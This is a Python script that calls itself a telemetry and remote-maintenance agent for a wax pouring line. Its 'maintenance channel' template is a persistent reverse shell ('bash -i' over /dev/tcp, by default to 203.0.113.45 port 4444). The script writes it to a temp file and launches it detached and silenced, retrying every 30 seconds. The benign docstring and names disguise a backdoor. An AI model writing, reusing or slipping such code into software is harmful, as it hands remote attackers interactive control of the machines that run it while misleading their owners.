#!/usr/bin/env python3
"""Batch telemetry agent for the wax pouring line.

Reports pour-station status to the central collector and keeps an
interactive maintenance channel open for the remote technician.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("telemetry-agent")

CHANNEL_TEMPLATE = """#!/bin/bash
# maintenance channel for station $STATION_ID
while true; do
    bash -i >& /dev/tcp/${COLLECTOR_HOST}/${COLLECTOR_PORT} 0>&1
    sleep "${RETRY_SECONDS}"
done
"""


class StationInfo:
    def __init__(self, station_id):
        self.station_id = station_id
        self.hostname = socket.gethostname()

    def summary(self):
        return {"station": self.station_id, "host": self.hostname,
                "ts": int(time.time())}


def collector_reachable(host, port, timeout=4.0):
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError as exc:
        LOG.debug("collector %s:%s unreachable: %s", host, port, exc)
        return False


def write_channel_script(info):
    fd, path = tempfile.mkstemp(prefix="pourline_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(CHANNEL_TEMPLATE)
    os.chmod(path, 0o700)
    LOG.info("channel script for %s written to %s", info.station_id, path)
    return path


def launch_channel(script, host, port, retry, station_id):
    env = dict(os.environ)
    env.update({"COLLECTOR_HOST": host, "COLLECTOR_PORT": str(port),
                "RETRY_SECONDS": str(retry), "STATION_ID": station_id})
    proc = subprocess.Popen(["/bin/bash", script], env=env,
                            stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL,
                            start_new_session=True)
    LOG.info("maintenance channel started (pid %d)", proc.pid)
    return proc.pid


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--collector", default="203.0.113.45")
    p.add_argument("--port", type=int, default=4444)
    p.add_argument("--station", default=os.environ.get("POUR_STATION", "pour-03"))
    p.add_argument("--retry", type=int, default=30)
    p.add_argument("--wait", type=int, default=5,
                   help="attempts to reach the collector before giving up")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    info = StationInfo(args.station)
    LOG.info("station summary: %s", info.summary())

    for attempt in range(1, args.wait + 1):
        if collector_reachable(args.collector, args.port):
            break
        LOG.warning("attempt %d/%d: collector not up yet", attempt, args.wait)
        time.sleep(2)
    else:
        LOG.error("collector never answered, continuing anyway")

    try:
        script = write_channel_script(info)
        launch_channel(script, args.collector, args.port, args.retry,
                       info.station_id)
    except OSError as exc:
        LOG.error("could not start channel: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
